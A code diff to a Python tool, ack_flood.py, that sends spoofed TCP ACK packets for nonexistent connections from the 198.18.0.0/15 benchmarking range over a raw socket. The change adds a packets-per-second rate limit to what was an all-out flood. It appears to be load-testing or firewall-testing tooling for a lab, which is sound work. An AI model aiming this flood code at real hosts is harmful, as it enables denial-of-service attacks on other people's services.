@@ -1,10 +1,12 @@
-"""A program that sends ACKs of connections that do not exist: `ack_flood.py INTERFACE MAC HOST PORT`.
+"""A program that sends ACKs of connections that do not exist: `ack_flood.py INTERFACE MAC HOST PORT RATE`.
 
-They come from 198.18.0.0/15 (RFC 2544), as in `syn_flood`, as fast as this machine can.
+They come from 198.18.0.0/15 (RFC 2544), as in `syn_flood`, so many a second.
 """
 
+import itertools
 import socket
 import sys
+import time
 from collections.abc import Iterator
 from random import Random
 from typing import Final
@@ -12,6 +14,7 @@ from typing import Final
 from support.network import tcp_frames
 
 _COUNT: Final = 40_000
+_BURST: Final = 0.005
 
 
 def frames(mac: bytes, host: str, port: int) -> Iterator[bytes]:
@@ -24,14 +27,18 @@ def frames(mac: bytes, host: str, port: int) -> Iterator[bytes]:
         yield mac + own + b"\x08\x00" + packet
 
 
-def main(interface: str, mac: str, host: str, port: str) -> None:
+def main(interface: str, mac: str, host: str, port: str, rate: str) -> None:
     """Send until somebody ends us."""
-    made = list(frames(bytes.fromhex(mac.replace(":", "")), host, int(port)))
+    made = itertools.cycle(frames(bytes.fromhex(mac.replace(":", "")), host, int(port)))
+    burst = round(int(rate) * _BURST)
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
         sender.bind((interface, 0))
+        due = time.monotonic()
         while True:
-            for each in made:
+            for each in itertools.islice(made, burst):
                 sender.send(each)
+            due = max(due + _BURST, time.monotonic() - _BURST)
+            time.sleep(max(0.0, due - time.monotonic()))
 
 
 if __name__ == "__main__":
